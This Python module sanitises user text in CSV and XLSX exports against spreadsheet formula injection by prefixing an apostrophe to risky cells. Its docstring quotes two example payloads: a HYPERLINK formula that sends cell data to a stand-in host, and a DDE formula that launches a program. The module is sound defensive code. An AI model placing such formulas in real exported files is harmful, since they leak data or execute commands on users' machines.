"""User text in spreadsheet cells, kept from turning into a formula (OWASP "CSV Injection").

Excel, LibreOffice and Google Sheets read a cell that starts with ``=``, ``+``, ``-`` or
``@`` (or with a tab or carriage return, or with whitespace before one of those) as a
formula: ``=HYPERLINK("http://x.example/?leak="&A1,"click")`` sends data away,
``=cmd|' /C calc'!A0`` runs a program. Notes, file names, regions, theme names and
keywords are typed by people, so every text cell of a CSV or XLSX export goes through
here. Numbers and dates are not text and pass unchanged.

- CSV has no cell types, so such a text gets a leading apostrophe, OWASP's advice: the
  spreadsheet shows it as text, and a reader still sees the whole text after it.
- XLSX has cell types: the text is written as a string cell with Excel's "quote prefix"
  style (what typing ``'=1+2`` in Excel makes), so it stays exact and is never a
  ``<f>`` formula cell, not even after someone edits it.

Only standalone stdlib here: the UI's CSV downloads use it too (see ``shared_rules``).
"""

from __future__ import annotations

import re

# A tab or CR first, or any whitespace (spaces, tabs, CR, LF, NBSP...) before = + - @.
_FORMULA_START = re.compile(r"[\t\r]|\s*[=+\-@]")


def looks_like_formula(text: str) -> bool:
    """True when a spreadsheet would read this text as the start of a formula."""
    return _FORMULA_START.match(text) is not None


def csv_text(value: object) -> object:
    """A CSV cell value: text that looks like a formula gets a leading ``'``; anything
    else (other text, numbers, dates, None) is returned unchanged."""
    if isinstance(value, str) and looks_like_formula(value):
        return "'" + value
    return value
